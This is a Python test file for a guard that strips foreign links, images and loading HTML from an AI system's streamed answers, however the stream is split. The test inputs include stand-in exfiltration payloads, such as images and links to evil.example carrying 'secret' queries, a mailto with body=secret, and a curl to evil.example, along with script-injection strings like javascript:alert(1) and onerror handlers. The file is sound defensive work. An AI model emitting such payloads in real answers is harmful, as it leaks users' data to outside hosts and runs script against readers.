"""No image, no foreign link and no HTML that loads leaves an answer, however the stream is cut."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from serve.answering.links import LinkGuard, addresses
from tests.unit.serve.answering.rendered import dangers
from tests.unit.serve.answering.test_citations import evidence

KNOWN = "https://shop.example/returns"
CASES = {
    "a link of a source": (f"[here]({KNOWN}) x", f"[here]({KNOWN}) x"),
    "a bare address of a source": (f"go to {KNOWN}.", f"go to {KNOWN}."),
    "an address of a source in angles": (f"<{KNOWN}>", f"<{KNOWN}>"),
    "a source's address with a slash more": (f"{KNOWN}/ x", f"{KNOWN}/ x"),
    "a foreign link": ("see [the page](http://evil.example/?q=1) now", "see the page now"),
    "a foreign image": ("![cat](http://evil.example/?q=secret) x", "cat x"),
    "an image of a source": (f"![cat]({KNOWN}) x", "cat x"),
    "a link with more behind a source's address": (f"[x]({KNOWN}?q=secret)", "x"),
    "a bare foreign address": ("go to https://evil.example/x, now", "go to , now"),
    "a foreign address in angles": ("<https://evil.example>", ""),
    "www": ("www.evil.example/x y", " y"),
    "capitals": ("HTTPS://EVIL.example/x y", " y"),
    "a relative link": ("[x](/logout)", "x"),
    "a link to a script": ('[x]( <javascript:alert(1)> "t")', "x"),
    "a link with brackets in it": ("[a](http://e.example/b(c)d) e", "a e"),
    "an address as its own link": ("[http://e.example](http://e.example)", ""),
    "an image in a link": (
        f"[![i](http://e.example/1)]({KNOWN})",
        f"[i]({KNOWN})",
    ),
    "a link over lines": ("[a]\n(http://e.example)", "[a]\n()"),
    "a long text": (f"[{'g' * 300}](http://e.example)", f"[{'g' * 300}] ()"),
    "a definition": ("[r]: /logout\n[r]", "[r] : /logout\n[r]"),
    "a definition in a list": ("- [r]: http://e.example", "- [r] : "),
    "a definition in a definition list": ("a\n: [r]: //e.example", "a\n: [r] : //e.example"),
    "another one": ("a\n~ [r]: https:/e.example", "a\n~ [r] : https:/e.example"),
    "a mark with a foreign link": ("a [S1](http://e.example)", "a [S1]"),
    "an exclamation before a mark": ("Beware![S1]", "Beware! [S1]"),
    "an image tag": ("<img src=x onerror=1> t", " t"),
    "a link tag": (f"<a href='{KNOWN}'>t</a>", "t"),
    "a style with an address": ("<div style='background:url(//e.example)'>q", "q"),
    "a tag that never ends": ("<img src=//e.example/x", "< img src=//e.example/x"),
    "an echo of the prompt": ('<source id="S1">x</source>', "x"),
    "code in a line": ("`a[i](x)` and `<pod>` x", "`a[i] (x)` and `< pod>` x"),
    "none: code in a line": ("`a[i] < 3 && !b`", "`a[i] < 3 && !b`"),
    "a tag in a link": (f"[<img src=x>]({KNOWN})", f"[]({KNOWN})"),
    "a title with a tag": (f'[x]({KNOWN} "<img src=x>")', f'[x] ({KNOWN} "")'),
    "a comparison that reads as a tag": ("a <b and c> d, x < 3", "a < b and c> d, x < 3"),
    "a type": ("a List<String> x", "a List< String> x"),
    "attributes without values": (
        "<details open ontoggle=alert(1)>",
        "< details open ontoggle=alert(1)>",
    ),
    "an attribute behind four blanks": ("<div    style='x'>", "< div    style='x'>"),
    "an attribute behind a slash": ("<div/style='x'>", "< div/style='x'>"),
    "a comment": ("a <!-- b -->", "a < !-- b -->"),
    "an address to write to": ("<mailto:a@evil.example?body=secret> x", " x"),
    "an address without slashes": ("<https:evil.example> x", " x"),
    "a script as an address": ("<javascript:alert(1)> x", " x"),
    "a definition over two lines": ("[a\nb]: //e.example", "[a\nb] : //e.example"),
    "a definition with a bracket in it": (r"[a\]b]: /x", r"[a\]b] : /x"),
    "a source's address that goes on": (f"{KNOWN}{{@e.example/", f"{KNOWN} {{@e.example/"),
    "what joins to an address": ("ht<img src=x>tps://e.example", "ht tps://e.example"),
    "what joins to a link": ("[x]<img src=x>(/logout)", "[x] (/logout)"),
    "what joins to an image": ("!<img src=x>[x][S1]", "! [x][S1]"),
    "what joins to a tag": ("<<img src=x>img src=x>", "< img src=x>"),
    "a backtick that is not closed": ("`![x](//e.example)", "`! [x] (//e.example)"),
    "a backtick that is escaped": (r"\`![x](//e.example)`", r"\`! [x] (//e.example)`"),
    "a backtick of the line before": ("a ` b\n` ![x](//e) `", "a ` b\n` ! [x] (//e) `"),
    "backticks in two cells": ("` | ![x](//e) `", "` | ! [x] (//e) `"),
    "no fence": ("```a`b\n![x](//e)", "```a`b\n! [x] (//e)"),
    "a fence in a list": (
        "- b\n  ```\n  a[i](x)\n![x](//e)",
        "- b\n  ```\n  a[i] (x)\n! [x] (//e)",
    ),
    "a fence in a fence of tildes": ("~~~\n```\n~~~\n![x](/e)", "~~~\n```\n~~~\n! [x] (/e)"),
    "after a fence": ("```\n<a b=c>\n```\n![x](/e)", "```\n<a b=c>\n```\nx"),
    "after a fence with a false end": ("```\n``` x\n![x](/e)", "```\n``` x\nx"),
    "a head of a table like a fence": ("```|a\n|-|-|\n![x](/e)", "```|a\n|-|-|\n! [x] (/e)"),
    "a mail address": ("<{@x.example>", "< {@x.example>"),
    "a break at the beginning of a line": ("- <br>\n", "- < br>\n"),
    "an address that is begun": ("http://[::1]/", "http:// [::1]/"),
    "none: a break": ("| a<br>b H<sub>2</sub>O |", "| a<br>b H<sub>2</sub>O |"),
    "none: XML in a fence": (
        "```xml\n<xs:a b='c'/>\n[x](y)\n```",
        "```xml\n<xs:a b='c'/>\n[x](y)\n```",
    ),
    "backticks in backticks": ("``a ` [i](x)`` b", "``a ` [i] (x)`` b"),
    "a backtick of the line before, in what looks like a fence": (
        "~~~\n```\n~~~\na ` b\n`![x](//e)`",
        "~~~\n```\n~~~\na ` b\n`! [x] (//e)`",
    ),
    "what looks like a fence but for the end of a long line": (
        f"```{'a ' * 1000}`\n![x](//e)",
        f"```{'a ' * 1000}`\n! [x] (//e)",
    ),
    "a definition over lines, in what looks like a fence": (
        "~~~\n```\n~~~\n[a\nb]: //e",
        "~~~\n```\n~~~\n[a\nb] : //e",
    ),
    "a definition over a line with a blank that is none to Markdown": (
        "[a\n\xa0\nb]: //e",
        "[a\n\xa0\nb] : //e",
    ),
    "none: two marks": ("a [S1][S2]: b", "a [S1][S2]: b"),
    "none: a word": ("http: how far [or", "http: how far [or"),
    "a foreign address in code": ("`curl https://evil.example/x`", "`curl `"),
}


def written(*pieces: str) -> tuple[str, int]:
    guard = LinkGuard([KNOWN])
    text = "".join(guard.feed(piece) for piece in pieces) + guard.finish()
    return text, guard.removed


@pytest.mark.parametrize(("text", "expected"), CASES.values(), ids=CASES.keys())
def test_only_links_of_the_sources_pass(text: str, expected: str) -> None:
    assert written(text)[0] == expected


@pytest.mark.parametrize("text", [text for text, _ in CASES.values()], ids=CASES.keys())
def test_how_the_stream_is_cut_makes_no_difference(text: str) -> None:
    whole = written(text)
    for cut in range(len(text) + 1):
        assert written(text[:cut], text[cut:]) == whole
    assert written(*text) == whole


FRAGMENTS = ["[", "]", "(", ")", "!", "<", ">", "img ", "src=", "a ", "\n", " ", "`", ":", "x", "/"]
FRAGMENTS += ["http://", "https://evil.example/q", "www.", KNOWN, "S1", '"', "javascript:", "\\"]
FRAGMENTS += [
    "```",
    "\n```",
    "~~~",
    "- ",
    "> ",
    "    ",
    "|",
    "\n|-|-|\n",
    "\n\n",
    "ht",
    "tps:",
    "{@",
]
FRAGMENTS += [
    "![x](//e)",
    "<img src=//e>",
    "![x](//host.example/x?secret)",
    "<script>",
    "<b>",
    "<br>",
    "</",
    "[x]",
    "[x\n",
    "x]: //host.example/x\n",
    "[x]: /e\n",
    "`` ",
    "<x:",
    "\n`",
    "\n\xa0\n",
]


@settings(max_examples=1000)
@given(pieces=st.lists(st.sampled_from(FRAGMENTS), max_size=30))
def test_no_text_gets_a_foreign_address_or_an_image_out(pieces: list[str]) -> None:
    out, _ = written(*pieces)
    assert out == written("".join(pieces))[0]
    assert "evil" not in out
    assert not dangers(out, KNOWN)


def test_what_was_left_out_is_counted() -> None:
    assert written("![a](http://e.example/1) [b](http://e.example/2) http://e.example/3")[1] == 3
    assert written(f"[a]({KNOWN})")[1] == 0


def test_a_text_without_links_is_not_held_back() -> None:
    guard = LinkGuard([])
    assert guard.feed("Tents are returned. ") == "Tents are returned. "
    assert guard.feed("See [S1") == "See "
    assert guard.feed("] x") == "[S1] x"


def test_the_addresses_of_sources_are_those_in_their_text_and_their_own() -> None:
    source = evidence("Write to https://shop.example/contact, or see (www.shop.example/faq).")
    assert addresses([source]) == {
        "https://shop.example/contact",
        "www.shop.example/faq",
        "p.md",
    }
